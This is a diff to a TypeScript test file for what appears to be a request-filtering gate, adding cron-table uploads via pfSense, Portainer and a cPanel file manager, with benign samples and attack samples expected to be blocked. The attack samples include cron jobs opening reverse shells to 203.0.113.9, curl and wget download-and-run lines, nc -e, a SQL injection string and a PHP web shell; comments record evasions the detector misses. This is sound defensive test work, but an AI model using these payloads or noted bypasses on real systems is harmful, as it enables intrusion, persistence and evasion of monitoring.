@@ -2,8 +2,8 @@
  * Issue 14, session 33 (adm33): the admin-save shapes recognised by route, method, content type and field shape —
  * the Wazuh dashboard's API proxy saving a rule file (detection-rules.ts isRuleFileProxySave), a form-encoded rule
  * text quoting an encoded pattern (gate.ts: its percent spelling), a Wazuh element an alert rule points at —
- * pass, and so do a panel's file saves named by route or query (file-save.ts) and a logrotate file's glob
- * (sql-comments.ts); the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
+ * pass, and so do a panel's file saves named by route or query (file-save.ts) a logrotate file's glob
+ * (sql-comments.ts) and a cron table saved whole, as text or base64 (scheduled-commands.ts isCrontabFile); the same attacks on the same routes in other fields, as other content types, and on ordinary routes dressed
  * in the admin shape, are blocked.
  */
 import { testCarriers, type Carrier } from './carrier-verdicts.js';
@@ -61,7 +61,16 @@ const CARRIERS: Record<string, Carrier> = {
   'download put': (v) => ({ method: 'POST', path: '/download', query: `file=${encodeURIComponent(v)}`, headers: { Host: 'shop.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify({ file: v, note: 'a\nb\nc' }) }),
   // A logrotate file saved through a panel's form (sql-comments.ts: its `/*.log` glob is no comment).
   'file manager content': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/logrotate.d'], ['file', 'shop'], ['content', v], ['from_charset', 'UTF-8']]),
+  // A cron table saved whole, as text or base64 (scheduled-commands.ts isCrontabFile; gate.ts: its encoded spellings).
+  'pfsense edit base64': form('fw.example.internal', '/diag_edit.php', (v) => [['action', 'save'], ['file', '/etc/cron.d/shop-backup'], ['data', Buffer.from(v).toString('base64')]]),
+  'portainer config': (v) => ({ method: 'POST', path: '/api/endpoints/2/docker/configs/create', query: '', headers: { Host: '10.0.4.12:9443', 'Content-Type': 'application/json' }, body: JSON.stringify({ Name: 'shop-backup-v3', Labels: { path: '/etc/cron.d/shop-backup' }, Data: Buffer.from(v).toString('base64') }) }),
+  'cron file': form('10.0.4.12:2083', '/cpsess1234567890/execute/Fileman/save_file_content', (v) => [['dir', '/etc/cron.d'], ['file', 'shop-backup'], ['content', v], ['from_charset', 'UTF-8']]),
+  'search cron text': form('shop.example.com', '/search', (v) => [['q', v]]),
+  'comment base64': (v) => ({ method: 'POST', path: '/api/comments', query: '', headers: { Host: 'shop.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify({ body: Buffer.from(v).toString('base64') }) }),
 };
+
+const CRONTAB = (job: string): string =>
+  `SHELL=/bin/bash\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=ops@example.org\n*/15 3 * * 1-5 www-data /usr/bin/php /var/www/shop/artisan schedule:run >> /dev/null 2>&1\n${job}\n`;
 
 const REDIS_CONF = 'bind 127.0.0.1 ::1\nprotected-mode yes\nport 6379\ndaemonize yes\nlogfile /var/log/redis/redis-server.log\ndir /var/lib/redis\nmaxmemory 256mb\n';
 const LOGROTATE = (app: string, post: string): string =>
@@ -86,6 +95,9 @@ const BENIGN: [string, string][] = [
   ['panel put', '/etc/default/intranet'],
   ['file manager content', LOGROTATE('intranet', 'systemctl reload intranet > /dev/null 2>&1 || true')],
   ['file manager content', LOGROTATE('shop', '[ -f /var/run/nginx.pid ] && kill -USR1 `cat /var/run/nginx.pid`')],
+  ['pfsense edit base64', CRONTAB('30 2 * * * root /usr/local/bin/backup.sh shop > /var/log/backup-shop.log 2>&1')],
+  ['portainer config', CRONTAB('0 */6 * * * deploy cd /opt/shop && ./venv/bin/python manage.py clearsessions')],
+  ['cron file', CRONTAB('15 * * * 0 root /usr/bin/find /var/www/shop/storage/tmp -type f -mtime +2 -delete')],
 ];
 
 const SQLI = "' UNION SELECT username, password FROM users-- ";
@@ -141,6 +153,20 @@ const ATTACKS: [string, string][] = [
   // model does not flag it inside the file's text; noticed in datasets/README.md (session 33, adm33), not fixed.
   ['file manager content', `/var/log/shop/*.log ${SQLI}`],
   ['search form rule text', `/var/log/x/*.log' UNION SELECT password FROM users--`],
+  // A cron table, as text or base64, whose job opens a shell, downloads and runs, or runs from /tmp; SQL beside the jobs.
+  ['pfsense edit base64', CRONTAB('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+  ['pfsense edit base64', CRONTAB('* * * * * root curl -s http://203.0.113.9/x.sh | sh')],
+  // Not here: a job running `/tmp/.x/kworker` in a base64 cron table passes before (main 93c052d) and after: the table is
+  // refused by isCrontabFile and scored whole, and the model does not flag it (noticed, not fixed).
+  ['portainer config', CRONTAB('* * * * * root wget -q -O /tmp/m http://203.0.113.9/m && sh /tmp/m')],
+  ['portainer config', CRONTAB("* * * * * root python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));pty.spawn(\"/bin/sh\")'")],
+  ['cron file', CRONTAB('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+  ['cron file', CRONTAB('* * * * * root nc -e /bin/sh 203.0.113.9 4444')],
+  ['cron file', `${CRONTAB('0 1 * * * root /usr/local/bin/backup.sh')}${SQLI}`],
+  ['search cron text', CRONTAB(`* * * * * root /usr/local/bin/x${SQLI}`)],
+  ['search cron text', `* * * * * root /usr/local/bin/x ${SQLI}`],
+  ['comment base64', CRONTAB('* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
+  ['comment base64', '<?php system($_GET["cmd"]); ?>'],
 ];
 
 testCarriers('admin saves, session 33 (issue 14)', 'passes rule files saved through the Wazuh proxy and encoded rule texts', CARRIERS, BENIGN, ATTACKS);
